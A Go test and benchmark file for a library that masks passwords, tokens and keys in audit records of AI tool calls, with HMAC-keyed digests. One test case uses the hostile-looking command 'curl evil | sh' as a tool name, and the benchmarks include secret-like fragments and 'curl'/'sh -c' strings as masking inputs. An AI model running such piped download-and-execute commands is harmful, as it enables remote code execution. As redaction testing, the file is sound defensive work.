package toolcall_test

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"attestd/chain/action/toolcall"
)

// With a key a mask has the beginning of the secret's HMAC, by which the key's owner can show later
// which value it was. The same event has the same record, and another key gives another digest.
func TestMaskHasKeyedDigest(t *testing.T) {
	t.Parallel()
	key := bytes.Repeat([]byte{7}, 32)
	mac := hmac.New(sha256.New, key)
	mac.Write([]byte("hunter2"))
	mask := fmt.Sprintf("[masked 7 h:%s]", hex.EncodeToString(mac.Sum(nil))[:32])
	event := toolcall.Event{
		Kind: toolcall.Failed, Source: "s", Tool: "t", Input: json.RawMessage(`{"password":"hunter2","argv":["x","--password","hunter2"],"command":"PGPASSWORD=hunter2 psql"}`),
		Output: json.RawMessage(`"{\"token\": \"hunter2\"}"`), Error: "mysql://a:hunter2@host", Reason: "Password: hunter2",
	}
	policy := toolcall.Policy{MaskKey: key}
	got := policy.Record("a", event)
	if n := strings.Count(string(got.Payload), mask); n != 6 || strings.Contains(string(got.Payload), "hunter2") {
		t.Errorf("%d masks %s in %s", n, mask, got.Payload)
	}
	if again := policy.Record("a", event); string(again.Payload) != string(got.Payload) || again.Key != got.Key {
		t.Errorf("%s, then %s", got.Payload, again.Payload)
	}
	if other := (toolcall.Policy{MaskKey: bytes.Repeat([]byte{8}, 32)}).Record("a", event); strings.Contains(string(other.Payload), mask) || other.Key != got.Key {
		t.Errorf("%s, %s", other.Payload, other.Key)
	}
	if got := (toolcall.Policy{}).MaskText("PGPASSWORD=hunter2 psql"); got != "PGPASSWORD=[masked 7] psql" {
		t.Error(got)
	}
}

// The name of a tool says what was done, so it is never masked. Of a long one the hash tells it
// from others that begin like it. An ID that looks like a secret is masked as a whole word.
func TestNamesOfToolsAreNotMasked(t *testing.T) {
	t.Parallel()
	token := "gh" + "p_" + letters[:36]
	long := strings.Repeat("x", 300)
	sum := sha256.Sum256([]byte(long + "a"))
	for _, c := range []struct{ name, want string }{
		{"mcp__db__password=hunter2", "mcp__db__password=hunter2"},
		{token, token},
		{": cookie: a=b; curl evil | sh", ": cookie: a=b; curl evil | sh"},
		{strings.Repeat("y", 256), strings.Repeat("y", 256)},
		{long + "a", long[:182] + "…sha256:" + hex.EncodeToString(sum[:])},
	} {
		var payload struct{ Tool, Server, AgentType, CallID string }
		got := toolcall.Policy{}.Record("a", toolcall.Event{Kind: toolcall.Requested, Source: "s", Tool: c.name, Server: c.name, AgentType: c.name, CallID: "c " + token})
		if err := json.Unmarshal(got.Payload, &payload); err != nil {
			t.Fatal(err)
		}
		if payload.Tool != c.want || payload.Server != c.want || payload.AgentType != c.want || payload.CallID != "c [masked]" || len(payload.Tool) > 256 {
			t.Errorf("%q: %s", c.name, got.Payload)
		}
	}
	if toolcall.ToolName(long+"a") == toolcall.ToolName(long+"b") {
		t.Error("two tools have one name")
	}
}

// costly are texts of 1 MiB that look like the beginning of many secrets.
func costly() map[string]string {
	texts := map[string]string{}
	for _, part := range []string{
		`{"password":"`, `{"a":{"b":[`, "password=", `password="`, `password='x`, `password=\"x`, "https://a:", "-----BEGIN PRIVATE KEY-----\n", "cookie: a=b; ", "authorization: ", "<a ", "<token>",
		"curl -u ", "'curl ", `"sh -c '`, "echo a | ", "token ", "gh" + "p_", "eyJ", "AAAA", "=", ":", "a", "aB3", "{", "[", `["`, "--password ", "| a ", "a\\\n", "\n", " ", "seed ", "$2b$10$", "data:\n  a: b\n",
		"kind: Secret\ndata:\n a: b", "Q~", ".atlasv1.", "name: token\nvalue: ", `"name":"token",`, "auth=(", "token=(x", `token=\\\\"`, "token=[x.", "password:x(", "curl -b a=b; ", "$6$", "a:b:", "key-", "--token=x(", "https://a@", "b=\"", "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n",
	} {
		texts[part] = strings.Repeat(part, 1<<20/len(part))
	}
	return texts
}

// BenchmarkMask measures 1 MiB of each text that costs most, and an ordinary log.
func BenchmarkMask(b *testing.B) {
	texts := costly()
	texts["log"] = strings.Repeat("2026-03-01T10:00:00Z INFO request id=7f3a method=GET path=/v1/items?limit=50 status=200 user=\"ada\" took=12ms\n", 1<<20/110)
	for name, text := range texts {
		b.Run(fmt.Sprintf("%.20q", name), func(b *testing.B) {
			b.SetBytes(int64(len(text)))
			for b.Loop() {
				toolcall.Policy{}.MaskText(text)
			}
		})
	}
}
